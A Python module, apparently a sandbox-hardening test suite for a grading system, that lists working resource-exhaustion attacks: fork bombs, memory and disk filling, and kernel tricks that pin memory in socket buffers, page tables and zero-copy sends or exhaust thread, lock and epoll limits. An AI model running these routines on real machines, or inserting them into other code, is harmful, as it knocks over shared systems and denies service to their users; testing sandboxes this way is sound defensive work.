"""Attacks that use too much of something: memory, disk, processes, output, time."""

from grading.attacks.attack import of_answer, of_notebook


def forks_without_end():
    import os

    while True:
        os.fork()


def starts_a_million_threads():
    import threading

    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()


def eats_memory():
    eaten = []
    while True:
        eaten.append(bytearray(b"x") * (256 << 20))


def eats_memory_in_children():
    import os

    for _ in range(16):
        if os.fork() == 0:
            eaten = []
            while True:
                eaten.append(bytearray(b"x") * (64 << 20))
    os.wait()


def fills_the_disk():
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/dev", "/"):
        try:
            for i in range(10_000):
                with open(f"{folder}/filler{i}", "wb") as file:
                    file.write(bytes(256 << 20))
                if i > 40:
                    print("GOT 10 GiB of", folder)
                    break
        except OSError:
            pass


def prints_without_end():
    while True:
        print("x" * 10_000)


def prints_50_megabytes():
    print("x" * (50 << 20))


def loops_without_end():
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def fills_the_buffers_of_sockets():
    """Keep gigabytes in sockets that nobody reads: no process is charged for what is on its way."""
    import socket

    kept = []
    while len(kept) < 20_000:
        pair = socket.socketpair()
        for end in pair:
            end.setblocking(False)
            try:
                while True:
                    end.send(b"x" * 65536)
            except BlockingIOError:
                pass
        kept += pair
    print("GOT", len(kept), "full sockets")


def makes_a_million_empty_files():
    for i in range(1_000_000):
        open(f"/tmp/{i}", "w").close()
    print("GOT a million files")


def fills_the_tables_of_pages():
    """Look at one page in each 2 MiB of eight terabytes: there is nothing in it, and the kernel keeps tables of it."""
    import mmap
    import time

    kept = []
    for _ in range(8):
        kept.append(mmap.mmap(-1, 1 << 40, prot=mmap.PROT_READ, flags=mmap.MAP_PRIVATE | 0x4000))  # MAP_NORESERVE
        for at in range(0, len(kept[-1]), 2 << 20):
            kept[-1][at]
    time.sleep(3)
    print("GOT 16 GiB of tables")


def sends_files_that_nobody_receives():
    import os
    import socket
    import time

    pair = socket.socketpair()
    for _ in range(200):
        fd = os.memfd_create("x")
        os.write(fd, b"x" * (16 << 20))
        socket.send_fds(pair[0], [b"x"], [fd])
        os.close(fd)
        time.sleep(0.05)
    print("GOT 3 GiB in files on their way")


def fills_sockets_of_the_largest_size():
    import socket
    import time

    for i in range(450):  # a machine may allow 8 MiB each
        globals()[f"pair{i}"] = pair = socket.socketpair()
        pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        pair[0].setblocking(False)
        try:
            while True:
                pair[0].send(bytes(1 << 16))
        except BlockingIOError:
            pass
    time.sleep(3)
    print("GOT gigabytes in sockets")


def gives_sockets_one_byte_of_each_page():
    """Move pages of a file through a pipe into sockets, and cut the file off: each page is there, and counts a byte."""
    import os
    import socket
    import time

    file, (end, begin) = os.open("/dev/shm/pages", os.O_RDWR | os.O_CREAT), os.pipe()
    for i in range(450):
        globals()[f"pair{i}"] = pair = socket.socketpair()
        pair[0].setblocking(False)
        try:
            while True:
                os.ftruncate(file, 0)
                os.pwrite(file, b"x" * (16 << 12), 0)
                for at in range(0, 16 << 12, 1 << 12):
                    os.splice(file, begin, 1, offset_src=at)
                os.splice(end, pair[0].fileno(), 16, flags=os.SPLICE_F_NONBLOCK)
        except BlockingIOError:
            os.read(end, 16)
    time.sleep(3)
    print("GOT 5 GiB in sockets")


def gives_a_connection_one_byte_of_each_large_page():
    """Send bytes without a copy of them: the connection keeps their pages of 2 MiB until they are read."""
    import mmap
    import socket
    import time

    server = socket.create_server(("127.0.0.1", 0))
    globals()["ends"] = a, b = socket.create_connection(server.getsockname()), server.accept()[0]
    a.setsockopt(socket.SOL_SOCKET, 60, 1)  # SO_ZEROCOPY
    b.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
    a.setblocking(False)
    for _ in range(3):
        a.send(bytes(1 << 18))
    for _ in range(500):
        pages = mmap.mmap(-1, 4 << 20, flags=mmap.MAP_PRIVATE)
        pages.madvise(mmap.MADV_HUGEPAGE)
        pages.write(bytes(4 << 20))
        a.send(memoryview(pages)[2 << 20 : (2 << 20) + 1], 0x4000000)  # MSG_ZEROCOPY
    time.sleep(3)
    print("GOT 1 GiB in a connection")


def starts_threads_whose_stacks_are_one_mapping():
    """Take the numbers that the machine has for processes and threads: 32,768, where nobody raised that."""
    import ctypes
    import time

    libc, n, size = ctypes.CDLL(None), 31_000, 16 << 10
    libc.mmap.restype = ctypes.c_void_p
    begin = libc.mmap(None, ctypes.c_size_t(n * size), 3, 0x22, -1, ctypes.c_long(0))
    how, thread = ctypes.create_string_buffer(64), ctypes.c_ulong()
    libc.pthread_attr_init(how)
    for i in range(n):
        libc.pthread_attr_setstack(how, ctypes.c_void_p(begin + i * size), ctypes.c_size_t(size))
        libc.pthread_create(ctypes.byref(thread), how, ctypes.cast(libc.pause, ctypes.c_void_p), None)
    time.sleep(3)
    print("GOT", n, "threads")


def locks_a_million_places():
    import fcntl
    import time

    for i in range(500):
        globals()[f"file{i}"] = file = open(f"/tmp/locked{i}", "w")
        for place in range(2000):
            fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * (2000 - place))
    time.sleep(3)
    print("GOT a million locks")


def watches_what_all_boxes_may_watch():
    """Use up the user's share of what epoll may watch, without which no other submission's ranks can meet."""
    import os
    import select

    ends = [end for _ in range(1500) for end in os.pipe()]
    kept = []
    try:
        while True:
            kept.append(select.epoll())
            for end in ends:
                kept[-1].register(end, select.EPOLLIN)
    except OSError:
        print("GOT all that epoll may watch:", len(kept) * len(ends))


def hands_in_100_megabytes():
    payload = bytes(100 << 20)
    globals()["plan_buckets"] = lambda *_, **__: [len(payload)]


def nests_its_reply_without_end(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested


def replies_a_gigabyte(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    return "x" * (1 << 30)


def hangs_the_rank(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    import time

    while True:
        time.sleep(60)


def forks_without_end_on_the_rank(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    import os

    while True:
        os.fork()


ATTACKS = [
    *of_notebook(
        forks_without_end,
        starts_a_million_threads,
        eats_memory,
        eats_memory_in_children,
        fills_the_disk,
        fills_the_buffers_of_sockets,
        makes_a_million_empty_files,
        prints_without_end,
        prints_50_megabytes,
        loops_without_end,
        hands_in_100_megabytes,
        fills_the_tables_of_pages,
        sends_files_that_nobody_receives,
        fills_sockets_of_the_largest_size,
        gives_sockets_one_byte_of_each_page,
        gives_a_connection_one_byte_of_each_large_page,
        starts_threads_whose_stacks_are_one_mapping,
        locks_a_million_places,
        watches_what_all_boxes_may_watch,
    ),
    *of_answer(nests_its_reply_without_end, replies_a_gigabyte, hangs_the_rank, forks_without_end_on_the_rank),
]
